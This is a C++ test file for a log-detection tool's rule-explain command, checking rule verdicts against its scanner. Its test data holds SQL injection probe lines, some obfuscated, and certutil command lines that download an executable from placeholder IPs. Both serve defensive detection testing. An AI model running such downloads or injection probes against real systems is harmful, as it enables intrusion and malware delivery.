// End-to-end tests of `vigil rules explain`: the real binary over bundled rules, with its
// verdicts checked against `vigil scan` on the same rule and lines.
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "tests/support/vigil_process.h"

namespace {

namespace fs = std::filesystem;
using vigil::testing::RunResult;
using vigil::testing::RunVigil;
using vigil::testing::Slurp;
using vigil::testing::Write;

// Single-quotes an argument for the shell.
std::string Q(const std::string& s) {
  std::string o = "'";
  for (char c : s) o += c == '\'' ? std::string("'\\''") : std::string(1, c);
  return o + "'";
}


const fs::path kPacks = fs::path(VIGIL_SOURCE_DIR) / "rules" / "packs";
constexpr const char* kSqliId = "abfa3e54-3a4e-40d5-8de6-1752e18cfac9";
constexpr const char* kCertutilId = "39e7b13c-0bde-4704-85d5-15a8ca605f4d";

const char* kSqliLine =
    R"(192.0.2.14 - - [25/Nov/2026:08:41:07 +0700] "GET /dvc/hoso/tra-cuu?maHoSo=1%27%20UNION%20ALL%20SELECT%20NULL--%20- HTTP/1.1" 500 1893 "-" "Mozilla/5.0")";
const char* kBenignLine =
    R"(198.51.100.41 - - [25/Nov/2026:08:41:13 +0700] "GET /dvc/tim-kiem?tuKhoa=cong+doan+union+tinh&page=1 HTTP/1.1" 200 20481 "-" "Mozilla/5.0")";

class RulesExplainTest : public vigil::testing::TempDirTest {};

TEST_F(RulesExplainTest, MatchingLineShowsPredicatesAndMarkedSpan) {
  RunResult r = RunVigil(std::string("rules explain ") + kSqliId + " --log " + Q(kSqliLine), dir_);
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("verdict: MATCH\n"), std::string::npos) << r.out;
  // The field read is the decoded view of the request (docs/web-detection.md).
  EXPECT_NE(r.out.find("cs-uri-norm = /dvc/hoso/tra-cuu?maHoSo=1' UNION ALL SELECT NULL"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("variant webserver/access_log: applies"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  selection_target: true\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("    cs-uri-norm|re|i '\\bunion"), std::string::npos) << r.out;  // the predicate line
  EXPECT_NE(r.out.find("maHoSo=1' [[UNION ALL SELECT NULL]]"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("\x1b["), std::string::npos) << "no colour when stdout is not a terminal";
}

TEST_F(RulesExplainTest, NonMatchingLineNamesTheDecidingPredicate) {
  RunResult r = RunVigil(std::string("rules explain ") + kSqliId + " --log " + Q(kBenignLine), dir_);
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_NE(r.out.find("verdict: NO MATCH\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  selection_target: false\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  deciding: selection_target: cs-uri-norm|re|i '\\bunion"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("[["), std::string::npos) << r.out;
}

TEST_F(RulesExplainTest, ConditionStepsAndNotFilter) {
  // A rule with `a and not f`: a non-match decided by the true filter.
  Write(dir_ / "r.yml", R"(title: Whoami not from admin tools
id: 22222222-2222-4222-8222-222222222222
logsource:
  product: windows
  category: process_creation
detection:
  selection_img:
    Image|endswith: '\whoami.exe'
  filter_parent:
    ParentImage|contains: 'admintools'
  condition: selection_img and not filter_parent
level: low
)");
  const std::string ev =
      R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\whoami.exe","ParentImage":"C:\\AdminTools\\run.exe"})";
  RunResult r = RunVigil("rules explain " + Q((dir_ / "r.yml").string()) + " --log " + Q(ev), dir_);
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_NE(r.out.find("condition: selection_img and not filter_parent\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  selection_img: true\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  filter_parent: true\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  not filter_parent: false\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  selection_img and not filter_parent: false\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("C:\\[[AdminTools]]\\run.exe"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("deciding: filter_parent: ParentImage|contains 'admintools': true"),
            std::string::npos) << r.out;
}

TEST_F(RulesExplainTest, WrongChannelNamesTheRoutingCondition) {
  const std::string ev =
      R"({"EventID":1,"Channel":"Security","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil.exe -urlcache -split -f http://192.0.2.77/a.exe"})";
  RunResult r = RunVigil(std::string("rules explain ") + kCertutilId + " --log " + Q(ev), dir_);
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_NE(r.out.find("verdict: NO MATCH\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("    _format = json: true\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("    Channel = Microsoft-Windows-Sysmon/Operational: false (Security)\n"),
            std::string::npos) << r.out;
  EXPECT_NE(r.out.find("deciding: routing windows_process_creation/sysmon: "
                       "Channel = Microsoft-Windows-Sysmon/Operational: false (Security)"),
            std::string::npos) << r.out;
}

// The verdicts of explain over a file, in record order.
std::vector<std::pair<long, bool>> Verdicts(const std::string& out) {
  std::vector<std::pair<long, bool>> v;
  std::regex header(R"(^== [^\n]*:([0-9]+): )");
  long record = -1;
  std::size_t pos = 0;
  while (pos < out.size()) {
    std::size_t end = out.find('\n', pos);
    if (end == std::string::npos) end = out.size();
    std::string line = out.substr(pos, end - pos);
    std::smatch m;
    if (std::regex_search(line, m, header)) record = std::stol(m[1]);
    else if (line == "verdict: MATCH") v.emplace_back(record, true);
    else if (line == "verdict: NO MATCH") v.emplace_back(record, false);
    pos = end + 1;
  }
  return v;
}

std::set<long> ScanAlertRecords(const std::string& out) {
  std::set<long> s;
  std::regex rec(R"re("source":\{"file":"[^"]*","record":([0-9]+)\})re");
  for (auto it = std::sregex_iterator(out.begin(), out.end(), rec); it != std::sregex_iterator(); ++it)
    s.insert(std::stol((*it)[1]));
  return s;
}

void ExpectSameVerdictsAsScan(const fs::path& rule, const fs::path& log, const fs::path& dir,
                              std::size_t events) {
  RunResult e = RunVigil("rules explain " + Q(rule.string()) + " --file " + Q(log.string()), dir);
  RunResult s = RunVigil("scan --no-summary --rules " + Q(rule.string()) + " " + Q(log.string()), dir);
  ASSERT_EQ(s.exit_code, 0) << s.err;
  auto verdicts = Verdicts(e.out);
  ASSERT_EQ(verdicts.size(), events) << e.out;
  std::set<long> alerts = ScanAlertRecords(s.out);
  std::size_t matched = 0;
  for (auto [record, match] : verdicts) {
    EXPECT_EQ(match, alerts.count(record) == 1) << "record " << record << "\n" << e.out;
    matched += match;
  }
  EXPECT_GT(matched, 0u);
  EXPECT_LT(matched, events);
  EXPECT_EQ(e.exit_code, matched == events ? 0 : 1);
}

TEST_F(RulesExplainTest, VerdictsEqualScanOnAccessLines) {
  Write(dir_ / "access.log",
        std::string(kSqliLine) + "\n" + kBenignLine + "\n" +
            R"(192.0.2.14 - - [25/Nov/2026:08:41:09 +0700] "GET /tin-tuc/chi-tiet?id=-7+union/*!50000select*/+1,2,3-- HTTP/1.1" 404 312 "-" "Mozilla/5.0")" "\n"
            R"(192.0.2.14 - - [25/Nov/2026:08:41:11 +0700] "GET /tin-tuc/chi-tiet?id=7%0AUnIoN%0ASeLeCt%0A1 HTTP/1.1" 404 312 "-" "Mozilla/5.0")" "\n"
            R"(198.51.100.41 - - [25/Nov/2026:08:41:15 +0700] "GET /dvc/hoso/tra-cuu?maHoSo=000.00.15.H56 HTTP/1.1" 200 8812 "-" "Mozilla/5.0")" "\n"
            R"(198.51.100.41 - - [25/Nov/2026:08:41:16 +0700] "GET /select?q=union HTTP/1.1" 200 12 "-" "Mozilla/5.0")" "\n");
  ExpectSameVerdictsAsScan(kPacks / "web" / "web_sqli_union_select.yml", dir_ / "access.log", dir_, 6);
}

TEST_F(RulesExplainTest, VerdictsEqualScanOnWindowsEvents) {
  Write(dir_ / "events.json",
        R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil.exe -urlcache -split -f http://192.0.2.77/a.exe"})" "\n"
        R"({"EventID":4688,"Channel":"Security","NewProcessName":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil /verifyctl -f -split https://198.51.100.200/p.txt"})" "\n"
        R"({"EventID":1,"Channel":"Security","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil.exe -urlcache -split -f http://192.0.2.77/a.exe"})" "\n"
        R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -hashfile C:\\a.msi SHA256"})" "\n"
        R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\chrome.exe","CommandLine":"chrome.exe --urlcache https://x/"})" "\n");
  ExpectSameVerdictsAsScan(kPacks / "windows" / "win_certutil_download.yml", dir_ / "events.json", dir_, 5);
}

// `them` never selects `_`-prefixed identifiers (Sigma's convention), `1 of _*` does: explain
// walks the engine's own parse of the condition, so its verdicts and its deciding lines follow
// the identifiers `vigil scan` evaluates.
TEST_F(RulesExplainTest, UnderscoreIdentifiersAreLeftOutOfThemAsScanLeavesThemOut) {
  Write(dir_ / "r.yml", R"(title: Whoami or helper
id: 33333333-3333-4333-8333-333333333333
logsource:
  product: windows
  category: process_creation
detection:
  selection_whoami:
    Image|endswith: '\whoami.exe'
  selection_net:
    Image|endswith: '\net.exe'
  _helper:
    CommandLine|contains: 'helper-only'
  condition: 1 of them or (all of _* and selection_net)
level: low
)");
  const std::string only_helper =
      R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\notepad.exe","CommandLine":"notepad helper-only"})";
  Write(dir_ / "events.json",
        R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami"})" "\n" +
            only_helper + "\n" +
            R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\net.exe","CommandLine":"net helper-only"})" "\n"
            R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\calc.exe","CommandLine":"calc"})" "\n");
  ExpectSameVerdictsAsScan(dir_ / "r.yml", dir_ / "events.json", dir_, 4);

  RunResult r = RunVigil("rules explain " + Q((dir_ / "r.yml").string()) + " --log " + Q(only_helper), dir_);
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_NE(r.out.find("  _helper: true\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  1 of them: false\n"), std::string::npos) << r.out;

  // Nothing matches: `1 of them` is decided by its two selections only, and `_helper` is named
  // once, by `all of _*`.
  const std::string nothing =
      R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\calc.exe","CommandLine":"calc"})";
  r = RunVigil("rules explain " + Q((dir_ / "r.yml").string()) + " --log " + Q(nothing), dir_);
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_NE(r.out.find("deciding: selection_whoami:"), std::string::npos) << r.out;
  std::size_t helper_lines = 0;
  for (std::size_t at = r.out.find("deciding: _helper"); at != std::string::npos;
       at = r.out.find("deciding: _helper", at + 1))
    ++helper_lines;
  EXPECT_EQ(helper_lines, 1u) << "`them` must not select _helper\n" << r.out;
}

TEST_F(RulesExplainTest, UnknownRuleIdIsAUsageError) {
  RunResult r = RunVigil("rules explain no-such-rule-id --log " + Q(kSqliLine), dir_);
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("no rule with id 'no-such-rule-id'"), std::string::npos) << r.err;
}

TEST_F(RulesExplainTest, UnreadableLogFileIsAUsageError) {
  RunResult r = RunVigil(std::string("rules explain ") + kSqliId + " --file " +
                             Q((dir_ / "missing.log").string()), dir_);
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("missing.log"), std::string::npos) << r.err;
}

// A level set by rules/mapping/rule_techniques.yml is shown with the rule's own and the reason,
// and the ATT&CK view with both revisions; `rules check -v` lists the override too.
TEST_F(RulesExplainTest, ShowsTheAttackViewAndALevelSetByTheMapping) {
  // The shipped mapping makes this SigmaHQ rule informational (a member removed from any group).
  Write(dir_ / "group_member_removed.yml", R"(title: A Member Was Removed From a Security-Enabled Global Group
id: 02c39d30-02b5-45d2-b435-8aebfe5a8629
status: test
tags: [attack.impact, attack.t1531, attack.defense-evasion, attack.t1562.002]
logsource: {product: windows, service: security}
detection:
  selection: {EventID: [4729, 633]}
  condition: selection
level: high
)");
  RunResult r = RunVigil("rules explain " + (dir_ / "group_member_removed.yml").string() + " --log " +
                             Q(R"({"EventID":4729,"Channel":"Security","Computer":"h"})"),
                         dir_);
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("level: informational (the rule says high; rules/mapping/rule_techniques.yml: "), std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("attack: tactics [defense-evasion, defense-impairment, impact], techniques [T1531, T1562.002, "
                       "T1685.001]"),
            std::string::npos)
      << r.out;
  RunResult check = RunVigil("rules check -v " + (dir_ / "group_member_removed.yml").string(), dir_);
  EXPECT_NE(check.out.find("level high -> informational by the rule technique mapping: "), std::string::npos)
      << check.out;
  EXPECT_NE(check.out.find("level set by rules/mapping/rule_techniques.yml: 1 rules"), std::string::npos) << check.out;
}

}  // namespace
